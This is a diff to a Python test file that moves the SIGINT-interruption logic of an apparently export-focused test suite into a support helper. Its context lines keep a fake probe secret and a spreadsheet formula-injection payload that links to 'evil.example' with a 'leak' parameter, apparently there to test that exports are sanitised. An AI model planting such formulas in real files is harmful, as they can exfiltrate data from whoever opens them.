@@ -26,14 +26,12 @@ from __future__ import annotations
 
 import csv
 import json
-import signal
-import time
 from pathlib import Path
 from typing import Any
 
 import pyarrow.parquet as pq
 import pytest
-from tests.support import oloproof, start_run, write_project
+from tests.support import interrupted_while_held, oloproof, write_project
 
 SECRET = "sk-probe-7f3a9c21"
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak","click")'
@@ -262,16 +260,7 @@ def interrupted(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
             for i, case_id in enumerate(PLANNED)
         ),
     )
-    proc = start_run(root, "sleeping\n", {"PROBE_SECRET": SECRET})
-    proc.send_signal(signal.SIGINT)
-    time.sleep(1)  # the signal is taken before the case it interrupted ends
-    (root / "release").touch()
-    try:
-        out, err = proc.communicate(timeout=60)
-    finally:
-        proc.kill()
-    assert proc.returncode == 130, out + err
-    return root, err.split("--resume ")[1].split()[0]
+    return root, interrupted_while_held(root, "sleeping\n", {"PROBE_SECRET": SECRET})
 
 
 def _tables(folder: Path, fmt: str) -> tuple[list[dict[str, Any]], list[dict[str, Any]]]:
